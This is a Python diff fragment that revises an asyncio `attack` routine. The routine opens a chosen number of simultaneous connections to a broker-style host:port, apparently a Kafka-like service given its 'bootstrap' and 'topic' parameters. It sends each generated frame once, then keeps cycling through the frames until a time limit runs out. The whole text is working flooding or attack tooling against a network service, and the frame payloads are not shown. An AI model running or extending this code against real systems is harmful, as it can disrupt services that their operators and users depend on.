@@ -41,21 +41,26 @@ def frames(topic: str) -> list[bytes]:
 
 
 async def attack(bootstrap: str, seconds: float, connections: int, topic: str) -> int:
-    """Sends them on so many connections at once, one on each connection; returns how many."""
+    """Sends each of them, and again for so long, on so many connections at once, one on each; returns how many."""
     host, _, port = bootstrap.rpartition(":")
-    endless = itertools.cycle(frames(topic))
-    until = monotonic() + seconds
-    counts = await asyncio.gather(*(_one(host, int(port), until, endless) for _ in range(connections)))
+    left = _until_over(frames(topic), seconds)
+    counts = await asyncio.gather(*(_one(host, int(port), left) for _ in range(connections)))
     return sum(counts)
 
 
-async def _one(host: str, port: int, until: float, endless: Iterator[bytes]) -> int:
+def _until_over(each_once: list[bytes], seconds: float) -> Iterator[bytes]:
+    yield from each_once
+    until = monotonic() + seconds
+    yield from itertools.takewhile(lambda _: monotonic() < until, itertools.cycle(each_once))
+
+
+async def _one(host: str, port: int, left: Iterator[bytes]) -> int:
     count = 0
-    while monotonic() < until:
+    for frame in left:
         with suppress(OSError, TimeoutError):
             async with asyncio.timeout(_END_SECONDS):
                 reader, writer = await asyncio.open_connection(host, port)
-                writer.write(next(endless))
+                writer.write(frame)
                 count += 1
                 while await reader.read(65536):
                     pass
